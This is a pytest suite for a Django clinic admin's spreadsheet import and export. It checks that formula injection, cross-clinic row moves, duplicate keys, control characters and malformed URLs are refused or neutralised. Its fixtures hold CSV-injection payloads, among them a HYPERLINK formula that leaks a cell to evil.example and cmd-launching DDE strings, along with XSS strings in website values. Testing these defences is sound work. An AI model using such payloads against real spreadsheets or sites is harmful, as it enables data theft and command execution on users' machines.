"""Hostile data through the spreadsheet doors (issue 16): formulas in an export, a child row
moved to another clinic, a file missing its key column or naming a row twice, control
characters that broke the XLSX export, and the admin's inlines posting another clinic's rows."""

from __future__ import annotations

import csv
import io
import re

import openpyxl
import pytest
from django.contrib.messages import get_messages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from clinics.cells import DANGEROUS_FIRST
from clinics.models import Claim, Clinic
from tests.clinics.test_admin_import import (
    CSV_FORMAT,
    EXPORT,
    RESOURCES,
    XLSX_FORMAT,
    confirm,
    row_errors,
    upload,
)
from tests.factories import (
    ClaimFactory,
    ClinicFactory,
    CredentialFactory,
    PractitionerFactory,
)
from tests.security.test_hostile_admin_forms import admin_form

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted once",
]


@pytest.fixture
def signed_in(client, curator):
    client.force_login(curator)
    return client


def exported(client, resource: str, file_format: str) -> bytes:
    response = client.post(EXPORT, {"format": file_format, "resource": RESOURCES[resource]})
    assert response.status_code == 200
    return response.content


def formula_clinic() -> Clinic:
    clinic = ClinicFactory(slug="formula-skin", description=FORMULAS[0], city="-Izmir")
    for text in FORMULAS:
        ClaimFactory(clinic=clinic, text=text)
    return clinic


# --- item 2: formulas ----------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("resource", ["clinics", "claims"])
def test_an_xlsx_export_holds_no_formula_cell(signed_in, resource):
    formula_clinic()
    book = openpyxl.load_workbook(io.BytesIO(exported(signed_in, resource, XLSX_FORMAT)))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert cells
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + FORMULAS[0] in texts


@pytest.mark.django_db
@pytest.mark.parametrize("resource", ["clinics", "claims"])
def test_a_csv_export_starts_no_cell_with_a_formula_character(signed_in, resource):
    formula_clinic()
    rows = list(csv.reader(io.StringIO(exported(signed_in, resource, CSV_FORMAT).decode())))
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if c[:1] in DANGEROUS_FIRST] == []
    assert "'" + FORMULAS[0] in cells


def import_file(client, resource: str, file_format: str, content: bytes):
    name = "sheet.csv" if file_format == CSV_FORMAT else "sheet.xlsx"
    return client.post(
        reverse("admin:clinics_clinic_import"),
        {
            "resource": RESOURCES[resource],
            "format": file_format,
            "import_file": SimpleUploadedFile(name, content),
        },
    )


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT])
@pytest.mark.parametrize("resource", ["clinics", "claims"])
def test_an_exported_sheet_of_formulas_imports_back_unchanged(signed_in, file_format, resource):
    clinic = ClinicFactory(slug="formula-skin", description=FORMULAS[0], city="-Izmir")
    # What a door stores: the text stripped, so no tab or carriage return leads it.
    for text in (f for f in FORMULAS if f == f.strip()):
        ClaimFactory(clinic=clinic, text=text)
    before = (
        sorted(Claim.objects.values_list("pk", "text")),
        Clinic.objects.values("description", "city").get(),
    )
    preview = import_file(
        signed_in, resource, file_format, exported(signed_in, resource, file_format)
    )
    result = preview.context["result"]
    assert not result.has_errors() and not result.has_validation_errors(), row_errors(preview)
    confirm(signed_in, preview)
    after = (
        sorted(Claim.objects.values_list("pk", "text")),
        Clinic.objects.values("description", "city").get(),
    )
    assert after == before


@pytest.mark.django_db
def test_the_json_export_keeps_a_formula_as_written(signed_in):
    clinic = formula_clinic()
    response = signed_in.post(
        reverse("admin:clinics_clinic_changelist"),
        {"action": "export_profiles", "_selected_action": [clinic.pk]},
    )
    [profile] = response.json()
    assert profile["description"] == FORMULAS[0]
    assert [c["text"] for c in profile["claims"]] == FORMULAS


# --- item 4: a child row moved to another clinic --------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("resource", "make"),
    [
        ("practitioners", lambda a: PractitionerFactory(clinic=a, name="Dr. Moved")),
        ("claims", lambda a: ClaimFactory(clinic=a, text="Moved claim")),
        (
            "credentials",
            lambda a: CredentialFactory(practitioner=None, clinic=a, kind="facility_license"),
        ),
    ],
)
def test_a_child_row_naming_another_clinic_is_refused_not_moved(signed_in, resource, make):
    a = ClinicFactory(slug="clinic-a")
    ClinicFactory(slug="clinic-b")
    child = make(a)
    rows = list(csv.reader(io.StringIO(exported(signed_in, resource, CSV_FORMAT).decode())))
    header, row = rows[0], rows[1]
    row[header.index("clinic")] = "clinic-b"
    response = upload(signed_in, [header, row], resource=resource)
    errors = row_errors(response)
    assert list(errors) == [1]
    [message] = errors[1]["clinic"]
    assert f"id {child.pk}" in message and "“clinic-a”" in message and "“clinic-b”" in message
    assert response.context.get("confirm_form") is None
    child.refresh_from_db()
    holder = getattr(child, "clinic", None) or child.practitioner.clinic
    assert holder == a


@pytest.mark.django_db
def test_a_practitioner_credential_moved_to_another_clinics_doctor_is_refused(signed_in):
    a, b = ClinicFactory(slug="clinic-a"), ClinicFactory(slug="clinic-b")
    licence = CredentialFactory(practitioner=PractitionerFactory(clinic=a, name="Dr. A"))
    PractitionerFactory(clinic=b, name="Dr. B")
    rows = list(csv.reader(io.StringIO(exported(signed_in, "credentials", CSV_FORMAT).decode())))
    header, row = rows[0], rows[1]
    row[header.index("clinic")] = "clinic-b"
    row[header.index("practitioner")] = "Dr. B"
    errors = row_errors(upload(signed_in, [header, row], resource="credentials"))
    assert f"id {licence.pk}" in errors[1]["clinic"][0]
    licence.refresh_from_db()
    assert licence.practitioner.clinic == a


@pytest.mark.django_db
def test_an_inline_posting_another_clinics_row_is_refused(admin_client):
    a = ClinicFactory(slug="clinic-a")
    b = ClinicFactory(slug="clinic-b")
    mine = PractitionerFactory(clinic=b, name="Dr. Mine")
    theirs = PractitionerFactory(clinic=a, name="Dr. Theirs")
    url = reverse("admin:clinics_clinic_change", args=[b.pk])
    data = {
        k: v
        for k, v in admin_form(admin_client.get(url).content.decode(), "clinic_form").data.items()
    }
    # The existing row's form, pointed at clinic A's practitioner.
    [key] = [k for k, v in data.items() if k.endswith("-id") and v == [str(mine.pk)]]
    data[key] = [str(theirs.pk)]
    name_key = key.removesuffix("-id") + "-name"
    data[name_key] = ["Dr. Stolen"]
    response = admin_client.post(url, data)
    assert response.status_code == 200
    theirs.refresh_from_db()
    mine.refresh_from_db()
    assert (theirs.clinic, theirs.name, mine.name) == (a, "Dr. Theirs", "Dr. Mine")


@pytest.mark.django_db
def test_moving_a_practitioner_in_the_change_form_rescores_both_clinics(
    admin_client, careful_clinic
):
    from checklist.services.assessments import assessment_refresh

    other = ClinicFactory(slug="other-clinic")
    for clinic in (careful_clinic, other):
        assessment_refresh(clinic=clinic)
    doctor = careful_clinic.practitioners.get()
    url = reverse("admin:clinics_practitioner_change", args=[doctor.pk])
    data = admin_form(admin_client.get(url).content.decode(), "practitioner_form").data
    response = admin_client.post(url, {**data, "clinic": [str(other.pk)]})
    assert response.status_code == 302
    careful_clinic.refresh_from_db()
    other.refresh_from_db()
    # The clinic that lost its licensed doctor is rescored, not left with its old grade.
    stale, fresh = careful_clinic.current_assessment, assessment_refresh(clinic=careful_clinic)
    assert stale.pk == fresh.pk
    assert other.current_assessment == assessment_refresh(clinic=other)


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("changes", "field", "message"),
    [
        (
            {"slug": "Harbour-Skin"},
            "slug",
            "differs only in case from the slug of clinic “harbour-skin”",
        ),
        (
            {"name": "Harbour\u202eSkin"},
            "name",
            "contains an invisible formatting character (U+202E",
        ),
        ({"website": 'https://h.example/"x'}, "website", "contains '\"', which a web address"),
    ],
)
def test_the_clinic_form_refuses_what_every_door_refuses(admin_client, changes, field, message):
    ClinicFactory(slug="harbour-skin")
    url = reverse("admin:clinics_clinic_add")
    data = admin_form(admin_client.get(url).content.decode(), "clinic_form").data
    data = {**data, "slug": ["new-clinic"], "name": ["New"], "country": ["GB"]}
    data.update({k: [v] for k, v in changes.items()})
    response = admin_client.post(url, data)
    assert response.status_code == 200
    errors = response.context["adminform"].form.errors
    assert errors[field][0].startswith(message), errors
    assert Clinic.objects.count() == 1


@pytest.fixture
def admin_client(client, django_user_model):
    user = django_user_model.objects.create_superuser("root", password="not-used-in-these-1")
    client.force_login(user)
    return client


# --- item 6: the columns of a file ----------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("resource", "rows", "missing"),
    [
        ("clinics", [["name", "country"], ["Harbour Skin", "GB"]], "slug"),
        ("practitioners", [["name", "role"], ["Dr. Lee", "Director"]], "clinic"),
    ],
)
def test_a_file_without_a_key_column_names_it(signed_in, resource, rows, missing):
    response = upload(signed_in, rows, resource=resource)
    assert response.status_code == 200
    [message] = response.context["form"].errors["import_file"]
    assert f"“{missing}”" in message and "column" in message
    body = response.content.decode()
    assert "Traceback" not in body and "/site-packages/" not in body and "/work/" not in body


@pytest.mark.django_db
def test_the_same_slug_twice_in_one_file_names_both_rows(signed_in):
    response = upload(
        signed_in,
        [
            ["slug", "name", "country"],
            ["harbour-skin", "Harbour Skin", "GB"],
            ["other", "Other", "GB"],
            ["Harbour-Skin ", "Harbour Again", "GB"],
        ],
    )
    [message] = response.context["form"].errors["import_file"]
    assert "harbour-skin" in message.lower() and "2" in message and "4" in message
    assert not Clinic.objects.exists()


@pytest.mark.django_db
def test_the_same_id_twice_in_one_file_names_both_rows(signed_in):
    clinic = ClinicFactory(slug="lumen")
    doctor = PractitionerFactory(clinic=clinic, name="Dr. One")
    response = upload(
        signed_in,
        [
            ["id", "clinic", "name"],
            [str(doctor.pk), "lumen", "Dr. One"],
            [str(doctor.pk), "lumen", "Dr. Two"],
        ],
        resource="practitioners",
    )
    [message] = response.context["form"].errors["import_file"]
    assert f"id “{doctor.pk}”" in message and "lines 2 and 3" in message
    doctor.refresh_from_db()
    assert doctor.name == "Dr. One"


@pytest.mark.django_db
def test_unknown_columns_are_named_in_a_warning_on_the_preview(signed_in):
    response = upload(
        signed_in, [["slug", "name", "country", "webiste", "notes"], ["h", "H", "GB", "x", "y"]]
    )
    assert response.context["confirm_form"] is not None
    warnings = [str(m) for m in get_messages(response.wsgi_request)]
    assert any("“webiste”" in w and "“notes”" in w for w in warnings), warnings


# --- item 7: characters --------------------------------------------------------------------


@pytest.mark.django_db
def test_a_control_character_in_a_stored_field_does_not_break_the_xlsx_export(signed_in):
    # Stored before the doors refused it (or written by a script).
    ClinicFactory(slug="bell", city="Bell\x07town", description="Line\x0bfeed")
    ClaimFactory(clinic=Clinic.objects.get(), text="Esc\x1bape")
    for resource in ("clinics", "claims"):
        book = openpyxl.load_workbook(io.BytesIO(exported(signed_in, resource, XLSX_FORMAT)))
        texts = [c.value for row in book.active.iter_rows() for c in row]
        assert any(isinstance(t, str) and re.search("Bell.town|Esc.ape", t) for t in texts)


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("cell", "message"),
    [
        ("Harbour\u202eSkin", "contains an invisible formatting character (U+202E"),
        ("Harbour\u200bSkin", "contains an invisible formatting character (U+200B"),
        ("Harbour\x1bSkin", "contains a control character (U+001B"),
    ],
)
def test_a_name_with_control_or_bidi_characters_is_refused_on_its_column(signed_in, cell, message):
    response = upload(signed_in, [["slug", "name", "country"], ["harbour", cell, "GB"]])
    errors = row_errors(response)
    assert errors[1]["name"][0].startswith(message), errors
    assert not Clinic.objects.exists()


@pytest.mark.django_db
def test_a_name_is_stored_in_nfc(signed_in):
    confirm(
        signed_in, upload(signed_in, [["slug", "name", "country"], ["c", "Cli\u0301nica", "GB"]])
    )
    assert Clinic.objects.get().name == "Cl\u00ednica"


@pytest.mark.django_db
def test_a_slug_differing_only_in_case_is_refused(signed_in):
    ClinicFactory(slug="harbour-skin")
    response = upload(signed_in, [["slug", "name", "country"], ["Harbour-Skin", "H", "GB"]])
    errors = row_errors(response)
    assert "“harbour-skin”" in errors[1]["slug"][0]
    assert Clinic.objects.count() == 1


# --- item 8: web addresses -----------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    "url",
    [
        'https://evil.example/"onmouseover="alert(1)',
        "https://evil.example/<script>",
        "https://evil.example/a b",
        "https://evil.example/\x07",
    ],
)
def test_a_web_address_with_quotes_brackets_or_spaces_is_refused(signed_in, url):
    response = upload(
        signed_in, [["slug", "name", "country", "website"], ["harbour", "Harbour", "GB", url]]
    )
    assert "website" in row_errors(response)[1]
    assert not Clinic.objects.exists()
